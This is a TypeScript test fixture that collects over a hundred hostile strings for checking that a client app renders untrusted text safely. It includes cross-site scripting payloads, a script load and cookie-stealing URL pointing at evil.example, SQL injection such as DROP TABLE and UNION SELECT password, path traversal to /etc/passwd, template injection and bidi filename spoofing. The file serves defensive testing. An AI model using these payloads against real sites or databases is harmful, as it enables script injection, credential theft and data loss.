/**
 * Hostile strings: what a careless or malicious backend, supplier or colleague could put into any text the
 * client shows or any address parameter it reads. Every payload that could run script sets `window.__pwned`
 * (or calls alert/confirm/prompt, which the tests watch as dialog events), so "nothing executes" is checkable.
 * Grouped by kind; `HOSTILE` is the flat list (at least 100).
 */

/** The flag any executing payload sets. */
export const FLAG = '__pwned';
const set = `window.${FLAG}=1`;

const markup = [
  `<script>${set}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `"><script>${set}</script>`,
  `'><script>${set}</script>`,
  `</textarea><script>${set}</script>`,
  `</title><script>${set}</script>`,
  `<img src=x onerror="${set}">`,
  `<img src=x onerror=${set}//`,
  `<svg onload=${set}>`,
  `<svg><script>${set}</script></svg>`,
  `<body onload=${set}>`,
  `<iframe src="javascript:${set}"></iframe>`,
  `<iframe srcdoc="<script>parent.${FLAG}=1</script>"></iframe>`,
  `<a href="javascript:${set}">click</a>`,
  `<details open ontoggle=${set}>`,
  `<input autofocus onfocus=${set}>`,
  `<video><source onerror=${set}></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${set}>`,
  `<object data="javascript:${set}"></object>`,
  `<embed src="javascript:${set}">`,
  `<marquee onstart=${set}>x</marquee>`,
  `<div style="background:url(javascript:${set})">x</div>`,
  `<style>@import 'javascript:${set}';</style>`,
  `<link rel=stylesheet href="javascript:${set}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${set}">`,
  `<base href="javascript:${set}//">`,
  `<form action="javascript:${set}"><button>x</button></form>`,
  `<noscript><p title="</noscript><img src=x onerror=${set}>">`,
  `<template><img src=x onerror=${set}></template>`,
  `<x onclick=${set}>click me</x>`,
  `<!--<img src=x onerror=${set}>-->`,
  `<![CDATA[<script>${set}</script>]]>`,
  `<scr<script>ipt>${set}</scr</script>ipt>`,
  `<ScRiPt>${set}</sCrIpT>`,
  `<img src="x" onerror="&#119;indow.${FLAG}=1">`,
  `<a href="&#106;avascript:${set}">entity href</a>`,
];

const urls = [
  `javascript:${set}`,
  `JaVaScRiPt:${set}`,
  ` javascript:${set}`,
  `java\tscript:${set}`,
  `javascript&colon;${set}`,
  `data:text/html,<script>${set}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `vbscript:msgbox(1)`,
  `//evil.example/steal`,
  `https://evil.example/?c=' + document.cookie`,
  `/pages/index/index#<img src=x onerror=${set}>`,
  `/../../etc/passwd`,
  `%2e%2e%2f%2e%2e%2fetc%2fpasswd`,
];

const lengths = [
  'W'.repeat(5000),
  '連'.repeat(3000),
  `https://example.com/${'a/'.repeat(1500)}`,
  'word '.repeat(2000),
  '0'.repeat(400),
  '-'.repeat(2000),
  `${'a'.repeat(100)}${'\n'.repeat(200)}b`,
  '𝕏'.repeat(1500),
];

const bidi = [
  '\u202Egnp.exe',
  'invoice\u202Efdp.exe',
  '\u202Dforce-ltr\u202C',
  '\u2067isolate\u2069',
  '\u200F\u200Frtl marks',
  'مرحبا بالعالم',
  'שלום עולם',
  'abc\u202Edef\u202Cghi',
];

const invisible = [
  'zero\u200Bwidth\u200Bspace',
  'join\u200Dme',
  '\uFEFFbom at start',
  'soft\u00ADhyphen',
  '\u2060word\u2060joiner',
  '\u200B'.repeat(500),
  'null\u0000byte',
  '\u0000',
  'bell\u0007 and escape \u001B[31mred',
  'line\u2028separator\u2029paragraph',
  'tab\there',
  '\r\n\r\n',
  '   ',
  '',
];

const scripts = [
  '👨‍👩‍👧‍👦🏳️‍🌈🇹🇼👍🏽',
  '🔥'.repeat(300),
  'Z̷̢̛̛̛̖͇̠͔̱͎̣̲̲̓̅̍̄̋̈̓̽͜͝a̸̧͙̗̹̯͔̐̈́̈͒l̸̢̛͍͖̺̪̗̠̀̽̋͗g̵̢̛͙̥̮̈́͋o̸̧̳̲͚͂̽',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  'ﷺ﷽',
  '꧁꧂',
  'Ω≈ç√∫˜µ≤≥÷',
  '田中さんにあげて下さい',
  '𠜎𠜱𠝹𠱓',
  '\uD800 lone surrogate',
];

const sql = [
  `'; DROP TABLE sap_forms; --`,
  `" OR "1"="1`,
  `' OR 1=1 --`,
  `1; DELETE FROM users`,
  `admin'--`,
  `') UNION SELECT password FROM users --`,
  `%' AND 1=0 UNION SELECT sqlite_version() --`,
  `\\'; SELECT 1; --`,
  `1' AND SLEEP(5)#`,
  `Robert'); DROP TABLE students;--`,
];

const templates = [
  '{{x}}',
  '{{constructor.constructor("window.__pwned=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile string must reach the page as typed.
  '${x}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a hostile string must reach the page as typed.
  '${window.__pwned=1}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{{7*7}}',
  '{{count}} items',
  '{{{raw}}}',
  '[[x]]',
  '%s%s%s%s%n',
  '{0}{1}',
];

const escapes = [
  '\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=window.__pwned=1\\x3e',
  '&lt;script&gt;window.__pwned=1&lt;/script&gt;',
  '&amp;lt;b&amp;gt;',
  '&#60;script&#62;',
  '&#x3C;img src=x onerror=window.__pwned=1&#x3E;',
  '&nbsp;&nbsp;&copy;&reg;',
  '\\3C script\\3E',
  'content: "\\202E"',
  '\\',
  '"',
  "'",
  '`',
  '</>',
  '<',
  '>',
  '&',
];

const structured = [
  '{"__proto__":{"polluted":1}}',
  '__proto__',
  'constructor',
  'toString',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  'undefined',
  'null',
  'true',
  '[object Object]',
  '9007199254740993',
  '../../../../pages/index/index',
];

export const HOSTILE_GROUPS = {
  markup,
  urls,
  lengths,
  bidi,
  invisible,
  scripts,
  sql,
  templates,
  escapes,
  structured,
} as const;

export const HOSTILE: readonly string[] = Object.values(HOSTILE_GROUPS).flat();

/** The payloads that could run script if rendered as HTML or followed as a link. */
export const EXECUTABLE: readonly string[] = [...markup, ...urls.slice(0, 7), templates[1], templates[3]];

/** A short label for reports (the first 40 visible characters). */
export function label(s: string): string {
  const shown = s.replace(/[\u0000-\u001f\u2028\u2029]/g, '·');
  return shown.length > 40 ? `${shown.slice(0, 40)}… (${s.length})` : shown;
}
